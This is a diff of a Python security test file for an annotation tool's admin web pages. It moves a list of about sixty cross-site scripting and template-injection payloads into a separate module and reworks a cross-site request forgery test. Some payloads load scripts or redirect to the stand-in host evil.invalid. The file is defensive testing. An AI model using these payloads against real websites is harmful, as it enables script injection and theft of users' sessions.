@@ -10,8 +10,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from custodes.annotate.desk import Desk
 
+from custodes.annotate.desk import Desk
 from custodes.annotate.session import Comment, Skip
 from custodes.annotate.store import create
 from tests.annotate import studies
@@ -20,75 +20,11 @@ from tests.annotate.studies import asked, begun, plan_of
 pytest.importorskip("starlette")
 
 from custodes.annotate.site.app import app
+from tests.annotate.hostile import PAYLOADS
 from tests.annotate.site.served import served
 from tests.annotate.test_security import visitor
 
-FIRE = "window.fired=1"
-SCRIPTS = [
-    f"<script>{FIRE}</script>",
-    f"<ScRiPt>{FIRE}</sCrIpT>",
-    f"<script\n>{FIRE}</script\n>",
-    f"<<script>{FIRE}//<</script>",
-    f"<script src=data:,{FIRE}></script>",
-    "<script src=//evil.invalid/x.js></script>",
-    f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
-    f"</title><script>{FIRE}</script>",
-    f"</textarea><script>{FIRE}</script>",
-    f"</style><script>{FIRE}</script>",
-    f"--><script>{FIRE}</script><!--",
-    f"]]><script>{FIRE}</script>",
-    f"<img src=x onerror={FIRE}>",
-    f'<img src="x" onerror="{FIRE}">',
-    f"<img src=x\tonerror={FIRE}>",
-    f"<img/src=x/onerror={FIRE}>",
-    f"<img src=x:x onerror={FIRE}//",
-    f'"><img src=x onerror={FIRE}>',
-    f"'><img src=x onerror={FIRE}>",
-    f"`><img src=x onerror={FIRE}>",
-    "<img src=http://evil.invalid/pixel.png>",
-    f"<svg onload={FIRE}>",
-    f"<svg/onload={FIRE}>",
-    f"<svg><script>{FIRE}</script></svg>",
-    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>",
-    f"<svg><a xlink:href=javascript:{FIRE}><text>x</text></a></svg>",
-    f"<math><mtext><script>{FIRE}</script></mtext></math>",
-    f"<math href=javascript:{FIRE}>x</math>",
-    f"<body onload={FIRE}>",
-    f"<body onpageshow={FIRE}>",
-    f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe>",
-    f"<iframe src=javascript:parent.{FIRE}></iframe>",
-    f"<object data=javascript:{FIRE}></object>",
-    f"<embed src=javascript:{FIRE}>",
-    f"<video src=x onerror={FIRE}></video>",
-    f"<video><source onerror={FIRE}></video>",
-    f"<audio src=x onerror={FIRE}></audio>",
-    f"<details open ontoggle={FIRE}>x</details>",
-    f"<input autofocus onfocus={FIRE}>",
-    f"<select autofocus onfocus={FIRE}>",
-    f"<textarea autofocus onfocus={FIRE}>",
-    f"<marquee onstart={FIRE}>x</marquee>",
-    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={FIRE}>x</b>",
-    "<style>@import 'http://evil.invalid/x.css';</style>",
-    "<link rel=stylesheet href=http://evil.invalid/x.css>",
-    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
-    "<base href=http://evil.invalid/>",
-    f"<a href=javascript:{FIRE}>x</a>",
-    f"<a href='java\tscript:{FIRE}'>x</a>",
-    f"javascript:{FIRE}",
-    f"<form action=javascript:{FIRE}><button autofocus>x</button></form>",
-    "<button form=f formaction=http://evil.invalid/>x</button>",
-    f"<isindex type=image src=1 onerror={FIRE}>",
-    f'<noscript><p title="</noscript><img src=x onerror={FIRE}>">',
-    f'<xmp><p title="</xmp><img src=x onerror={FIRE}>">',
-    f"<template><script>{FIRE}</script></template>",
-    f"<dialog open><script>{FIRE}</script></dialog>",
-    "{{ ''.__class__ }}{% for x in range(9) %}x{% endfor %}",
-    "${7*7}#{7*7}<%= 7*7 %>",
-    f"\u202e<img src=x onerror={FIRE}>\u2028{FIRE}",
-    f"&lt;script&gt;{FIRE}&lt;/script&gt;",
-    f"&#60;img src=x onerror={FIRE}&#62;",
-]
-PLAIN = [f"words {k}" for k in range(len(SCRIPTS))]
+PLAIN = [f"words {k}" for k in range(len(PAYLOADS))]
 
 
 def filled(path: Path, texts: list[str]) -> Desk:
@@ -125,14 +61,10 @@ PAGES = ("/admin", "/admin/study", "/admin/study/questions", "/admin/study/peopl
 @pytest.fixture
 def both(tmp_path: Path) -> Iterator[tuple[Desk, Desk]]:
     with (
-        closing(filled(tmp_path / "hostile.db", SCRIPTS)) as hostile,
+        closing(filled(tmp_path / "hostile.db", PAYLOADS)) as hostile,
         closing(filled(tmp_path / "plain.db", PLAIN)) as plain,
     ):
         yield hostile, plain
-
-
-def test_there_are_enough() -> None:
-    assert len(SCRIPTS) == len(set(SCRIPTS)) >= 60
 
 
 def test_no_text_becomes_markup(both: tuple[Desk, Desk]) -> None:
@@ -179,18 +111,18 @@ def test_nothing_runs(address: str, browser: Any, cookies: Any) -> None:
         assert counts[0] == counts[1]
         assert all(one.startswith(address) for one in seen)
         if is_bare:  # where something runs, it is seen
-            page.evaluate(f"document.body.insertAdjacentHTML('beforeend', `{SCRIPTS[12]}`)")
-            page.wait_for_function("window.fired")
+            with page.expect_event("dialog"):
+                page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')")
         context.close()
 
 
 def count(page: Any, address: str) -> Any:
-    """What fired, and how many elements of a kind a page has with everything unfolded."""
+    """How many elements of a kind a page has with everything unfolded."""
     page.goto(address)
     return page.evaluate(
         "() => { for (const one of document.querySelectorAll('details')) one.open = true;"
-        " return [window.fired, ...['form', 'button', 'script', 'img', 'iframe', 'svg', 'a', 'input'].map("
-        "name => document.querySelectorAll(name).length)] }"
+        " return ['form', 'button', 'script', 'img', 'iframe', 'svg', 'a', 'input'].map("
+        "name => document.querySelectorAll(name).length) }"
     )
 
 
@@ -221,12 +153,17 @@ def test_pages_are_for_everybody(address: str, browser: Any, cookies: Any, size:
 
 @pytest.mark.browser
 def test_a_foreign_page_cannot_pause_a_study(address: str, browser: Any, cookies: Any, both: tuple[Desk, Desk]) -> None:
-    """A form on another port of this machine, which is the same site but another origin, sent by the owner's browser."""
-    form = (
-        f"<form method=post action='{address}/admin/hostile/reopen'><input name=sent value=1><button>x</button></form>"
-    )
+    """A form of another port of this machine, the same site but another origin, sent by the owner's browser."""
+    act = f"{address}/admin/hostile/reopen"
+    content = f"<form method=post action='{act}'><input name=sent value=1><button>x</button></form>"
     before = both[0].state()
-    with served(lambda scope, receive, send: _answer(form, scope, send)) as other:
+
+    async def foreign(scope: Any, receive: Any, send: Any) -> None:
+        headers = [(b"content-type", b"text/html")]
+        await send({"type": "http.response.start", "status": 200, "headers": headers})
+        await send({"type": "http.response.body", "body": content.encode()})
+
+    with served(foreign) as other:
         context = browser.new_context()
         context.add_cookies(cookies)
         page = context.new_page()
